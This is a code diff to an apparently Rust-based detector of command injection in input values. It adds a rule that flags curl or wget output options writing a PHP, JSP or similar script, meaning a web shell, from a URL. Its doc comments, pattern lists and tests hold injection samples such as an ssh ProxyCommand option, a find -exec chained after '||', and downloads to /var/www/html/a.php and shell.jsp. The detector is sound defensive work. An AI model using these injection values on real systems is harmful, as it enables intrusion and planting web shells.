@@ -5,18 +5,25 @@
 //! - **PowerShell**: after backticks between letters are dropped (`S`tart-S`leep`), a
 //!   cmdlet that runs, reads or reaches out (`Get-Process`, `Start-Sleep`,
 //!   `Resolve-DnsName`, `Invoke-WebRequest`, `New-Object`, ...: [`CMDLETS`]) in a
-//!   command position (after `;`, `|`, `&`, a line break, `(` or `$(`), or at the
-//!   start of the value followed by a parameter or a pipe; a .NET type call
-//!   (`[Diagnostics.Process]::Start(`, `[Net.WebClient]`, `[Convert]::FromBase64String(`).
+//!   command position (after `;`, `|`, `&`, `(`, `{` or a line break, with spaces
+//!   or tabs between; in text only `;`, `|`, `&`, `(` and `{` within the first 64
+//!   bytes), or as the value's first word followed by a parameter (`-Name`), `|`,
+//!   `(`, `$` or a quote, or alone when its name holds a `-`; a .NET type call
+//!   anywhere (`[Diagnostics.Process]::Start(`, `[Net.WebClient]`,
+//!   `[Convert]::FromBase64String(`).
 //! - **cmd.exe**: `call %name%` (a command stored in a variable by `set name=...`),
 //!   `%ComSpec%` as a command.
 //! - **A command built from variables**: `$a$b` in a command position
 //!   (`a=who;b=ami;$a$b`).
 //! - **Option injection**: an option that makes a program run a command or write a
-//!   file, at the start of the value or after white space: tar's `--to-command=`,
-//!   `--checkpoint-action=`, `--use-compress-program=`, git's `--upload-pack=`,
-//!   `--receive-pack=`, ssh's `-oProxyCommand=`, sendmail's `-OQueueDirectory=` and
-//!   `-X/path`, find's `-exec`, rsync's `--rsh=`, zip's `--unzip-command=`.
+//!   file, at the start of the value or after white space or a quote: tar's
+//!   `--to-command=`, `--checkpoint-action=`, `--use-compress-program=`, git's
+//!   `--upload-pack=`, `--receive-pack=`, ssh's `-oProxyCommand=` (or `-o
+//!   ProxyCommand=`), sendmail's `-OQueueDirectory=` and `-X/path` (capital `X`),
+//!   find's `-exec ` with `\;` or `+` within the next 128 bytes, rsync's `--rsh=`,
+//!   zip's `--unzip-command=`; and a downloader's output option (`-o`, `-O`,
+//!   `--output`, `--output-document`) naming a file a web server runs (`.php`,
+//!   `.jsp`, `.aspx`, `.sh`, ...) in a value that holds a URL.
 //!
 //! Linear: one pass to drop backticks, one automaton search, and bounded look-ahead
 //! at each match.
@@ -113,12 +120,13 @@ pub(super) const OPTIONS: &[&str] = &[
 
 /// The words [`scan`] starts from, for the candidates pass.
 pub(super) fn words() -> impl Iterator<Item = &'static str> {
-    CMDLETS
-        .iter()
-        .chain(DOTNET)
-        .chain(OPTIONS)
-        .copied()
-        .chain(["call %", "%comspec%", "$"])
+    CMDLETS.iter().chain(DOTNET).chain(OPTIONS).copied().chain([
+        "call %",
+        "%comspec%",
+        "$",
+        "-o ",
+        "--output",
+    ])
 }
 
 /// A finding of one of the shapes above: its rule and where it starts.
@@ -128,6 +136,9 @@ pub(super) fn words() -> impl Iterator<Item = &'static str> {
 pub(super) fn scan(s: &[u8], prose: bool) -> Option<(&'static str, usize)> {
     if let Some(at) = option_injection(s) {
         return Some(("option that runs a command", at));
+    }
+    if let Some(at) = download_to_script(s) {
+        return Some(("download written to a script file", at));
     }
     // Backticks between letters are PowerShell's escape: `S`tart-S`leep`.
     let plain: Vec<u8>;
@@ -181,9 +192,9 @@ pub(super) fn scan(s: &[u8], prose: bool) -> Option<(&'static str, usize)> {
     None
 }
 
-/// Whether `at` follows a separator (`;`, `|`, `&`, a line break, `(`, `$(`),
-/// with white space between; in prose, only `;`, `|`, `&` and `(` within the first
-/// bytes.
+/// Whether `at` follows a separator (`;`, `|`, `&`, `(`, `{`, a line break), with
+/// spaces or tabs between; in prose, only `;`, `|`, `&`, `(` and `{` within the
+/// first bytes.
 fn command_position(s: &[u8], at: usize, prose: bool) -> bool {
     let mut k = at;
     while k > 0 && matches!(s[k - 1], b' ' | b'\t') {
@@ -204,7 +215,8 @@ fn first_word(s: &[u8], at: usize) -> bool {
         .all(|c| is_space(*c) || matches!(c, b'\'' | b'"'))
 }
 
-/// An option of [`OPTIONS`] at the start of the value or after white space.
+/// An option of [`OPTIONS`] at the start of the value or after white space or a
+/// quote.
 fn option_injection(s: &[u8]) -> Option<usize> {
     static OPTION_WORDS: LazyLock<Words> = LazyLock::new(|| Words::new(OPTIONS));
     OPTION_WORDS.find_all(s).find_map(|(w, at, end)| {
@@ -222,6 +234,48 @@ fn option_injection(s: &[u8]) -> Option<usize> {
             _ => Some(at),
         }
     })
+}
+
+/// Extensions of files a web server runs.
+const SCRIPT_EXTENSIONS: &[&[u8]] = &[
+    b".php", b".phtml", b".phar", b".jsp", b".jspx", b".asp", b".aspx", b".cgi", b".pl", b".py",
+    b".sh",
+];
+
+/// A downloader's output option (curl's `-o`/`--output`, wget's `-O`/
+/// `--output-document`) at the start of the value or after white space, naming a
+/// file a web server runs, with a URL in the value: `-o /var/www/html/x.php
+/// http://host/x.txt` writes a web shell.
+fn download_to_script(s: &[u8]) -> Option<usize> {
+    memchr::memmem::find(s, b"://")?;
+    let mut from = 0;
+    while let Some(rel) = memchr::memchr(b'-', &s[from..]) {
+        let at = from + rel;
+        from = at + 1;
+        if at > 0 && !is_space(s[at - 1]) {
+            continue;
+        }
+        let opt_len = [&b"--output-document"[..], b"--output", b"-o", b"-O"]
+            .iter()
+            .find(|o| s[at..].starts_with(o))
+            .map(|o| o.len());
+        let Some(n) = opt_len else { continue };
+        let k = at + n;
+        if !matches!(s.get(k), Some(b' ' | b'=')) {
+            continue;
+        }
+        let k = k + 1;
+        let path_len = s[k..]
+            .iter()
+            .take(256)
+            .take_while(|c| !is_space(**c) && !matches!(c, b'\'' | b'"'))
+            .count();
+        let path = s[k..k + path_len].to_ascii_lowercase();
+        if SCRIPT_EXTENSIONS.iter().any(|e| path.ends_with(e)) {
+            return Some(at);
+        }
+    }
+    None
 }
 
 /// `call %name%` (cmd.exe runs the command a `set name=...` stored), or `%ComSpec%`
@@ -295,6 +349,8 @@ mod tests {
             "x -oProxyCommand=sleep 7",
             "--upload-pack=env",
             "a.example.com|| find . -maxdepth 0 -exec id \\; #",
+            "-o /var/www/html/a.php http://x.example/a.txt",
+            "http://x.example/s.txt --output-document=shell.jsp",
         ] {
             assert!(scan(s.as_bytes(), false).is_some(), "missed: {s}");
         }
@@ -307,6 +363,8 @@ mod tests {
             "price: $5 and $10",
             "The --checkpoint flag of tar",
             "iexplore.exe",
+            "curl -o out.json https://api.example.com/v1/items",
+            "Run it with -o report.pdf",
         ] {
             assert!(
                 scan(s.as_bytes(), false).is_none(),
